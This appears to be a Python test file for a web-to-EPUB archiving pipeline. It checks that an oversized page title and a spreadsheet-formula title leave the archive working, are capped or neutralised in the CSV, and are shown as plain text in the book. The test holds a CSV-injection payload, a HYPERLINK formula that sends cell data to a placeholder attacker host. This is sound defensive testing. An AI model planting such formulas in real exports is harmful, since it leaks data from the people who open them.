"""Pages whose titles attack the task list: a 140 KB <title> and a spreadsheet formula. The
archive keeps working through every command, the cells are capped and inert, and the book
shows the formula as the text it is."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

from lxml import etree

from pipeline.cli.main import main
from pipeline.records.task import MAX_TEXT_CHARS
from pipeline.store.task_csv import FORMULA_GUARD
from pipeline.store.tasks import TaskStore
from tests.pipeline.book.validator import assert_valid
from tests.sites.images import ImageServer

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
def _page(title: str, n: int) -> bytes:
    body = f"<p>第{n}篇。" + "一段正文，足够长，让这一页被当作文章来读。" * 12 + "</p>"
    return (f"<!DOCTYPE html><html><head><meta charset='utf-8'><title>{title}</title></head>"
            f"<body><article>{body}</article></body></html>").encode()


def test_hostile_titles_leave_the_archive_working(tmp_path: Path) -> None:
    root = tmp_path / "archive"
    with ImageServer() as server:
        server.put("/huge.html", _page("很长的标题" * 28_000, 1), "text/html; charset=utf-8")
        server.put("/formula.html", _page(FORMULA, 2), "text/html; charset=utf-8")
        links = tmp_path / "links.txt"
        links.write_text(f"{server.url('/huge.html')}\n{server.url('/formula.html')}\n",
                         encoding="utf-8")
        for command in (["add", str(links)], ["run"], ["status"], ["build"], ["status"]):
            assert main([*command, "--archive", str(root)]) == 0, command
    raw = (root / "tasks.csv").read_text(encoding="utf-8-sig")
    rows = {r["url"].rsplit("/", 1)[1]: r for r in csv.DictReader(io.StringIO(raw))}
    assert max(len(cell) for r in rows.values() for cell in r.values()) <= MAX_TEXT_CHARS + 1
    assert 0 < len(rows["huge.html"]["extracted_title"]) <= MAX_TEXT_CHARS
    assert rows["formula.html"]["extracted_title"] == FORMULA_GUARD + FORMULA  # inert in Excel
    tasks = {t.url.rsplit("/", 1)[1]: t for t in TaskStore(root / "tasks.csv").tasks()}
    assert tasks["formula.html"].extracted_title == FORMULA  # read back as it was
    assert {t.status for t in tasks.values()} == {"done"}
    [book] = (root / "03_output").glob("*.epub")
    assert_valid(book)
    with zipfile.ZipFile(book) as z:
        chapter = z.read(f"EPUB/text/a{tasks['formula.html'].id}.xhtml").decode("utf-8")
        huge = z.read(f"EPUB/text/a{tasks['huge.html'].id}.xhtml").decode("utf-8")
    headline = etree.fromstring(chapter.encode()).find(".//{*}h1")
    assert headline is not None and headline.text == FORMULA  # shown as the text it is
    headline = etree.fromstring(huge.encode()).find(".//{*}h1")
    assert headline is not None and 0 < len(headline.text or "") <= MAX_TEXT_CHARS
